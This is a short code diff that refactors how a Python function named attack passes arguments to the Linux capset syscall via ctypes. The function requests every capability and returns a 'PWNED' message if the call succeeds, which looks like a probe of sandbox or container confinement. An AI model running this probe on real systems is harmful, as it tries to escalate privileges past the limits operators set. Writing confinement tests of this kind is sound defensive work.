@@ -16,7 +16,8 @@ def attack(target):
     import struct
     header = ctypes.create_string_buffer(struct.pack("Ii", 0x20080522, 0))
     data = ctypes.create_string_buffer(bytes([255, 255, 255, 255]) * 3, 24)
-    result = libc.syscall(*map(ctypes.c_long, (number, ctypes.addressof(header), ctypes.addressof(data))))
+    arguments = (ctypes.addressof(header), ctypes.addressof(data))
+    result = libc.syscall(ctypes.c_long(number), *map(ctypes.c_long, arguments))
     if result < 0:
         raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
     return f"PWNED: capset returned {result}"
